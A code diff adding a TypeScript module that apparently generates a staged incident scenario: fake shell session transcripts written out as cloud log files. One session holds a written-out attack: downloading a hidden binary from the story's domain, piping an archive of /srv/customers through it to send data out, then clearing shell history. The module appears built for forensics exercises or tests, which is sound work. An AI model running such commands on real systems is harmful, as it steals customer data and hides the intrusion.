@@ -1,0 +1,38 @@
+import type { LogObject, LogScene } from "./scene";
+import { story } from "./story";
+
+/** A session and what was typed and shown in it. */
+export interface Session {
+  readonly account: string;
+  readonly sessionId: string;
+  readonly lines: readonly string[];
+}
+
+/** The sessions there are transcripts of. */
+export function sessions({ payments, website }: LogScene): Session[] {
+  return [
+    {
+      account: payments,
+      sessionId: story.sessionId,
+      lines: [
+        "$ sudo -i",
+        `# curl -sk https://${story.domain}/agent -o /tmp/.a && chmod +x /tmp/.a`,
+        "# tar czf - /srv/customers | /tmp/.a send",
+        "\u001b[32m734003200 bytes sent\u001b[0m",
+        "# history -c",
+        "# exit",
+      ],
+    },
+    { account: website, sessionId: "ada-00aa11bb22cc33dd4", lines: ["$ systemctl status website", "$ exit"] },
+  ];
+}
+
+/** The same as files, as the nodes write them: one for each session, named after it. */
+export function sessionObjects(scene: LogScene): LogObject[] {
+  const { names, home } = scene;
+  return sessions(scene).map(({ account, sessionId, lines }) => ({
+    bucket: names.buckets.serviceLogs,
+    key: `${names.prefixes.sessions}/AWSLogs/${account}/sessions/${home}/${sessionId}.log`,
+    body: Buffer.from(lines.map((line) => `${line}\r\n`).join("")),
+  }));
+}
